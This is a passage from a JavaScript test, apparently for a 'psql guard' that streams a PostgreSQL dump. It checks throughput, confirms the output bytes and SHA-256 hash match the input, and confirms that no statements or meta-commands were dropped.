    console.log(`psql guard: ${(size / 1e6).toFixed(1)} MB in ${seconds.toFixed(2)} s = ${(size / 1e6 / seconds).toFixed(0)} MB/s`);
    expect(outBytes).toBe(size);
    const inHash = createHash('sha256');
    for (const chunk of chunks) inHash.update(chunk);
    expect(outHash.digest('hex')).toBe(inHash.digest('hex'));
    expect(guard.result).toEqual({
      pgDump: true,
      complete: true,
      droppedStatements: 0,
      droppedMetaCommands: 0,
      lines: chunks.reduce((n, chunk) => n + chunk.toString('latin1').split('\n').length - 1, 0),
    });
  });
});
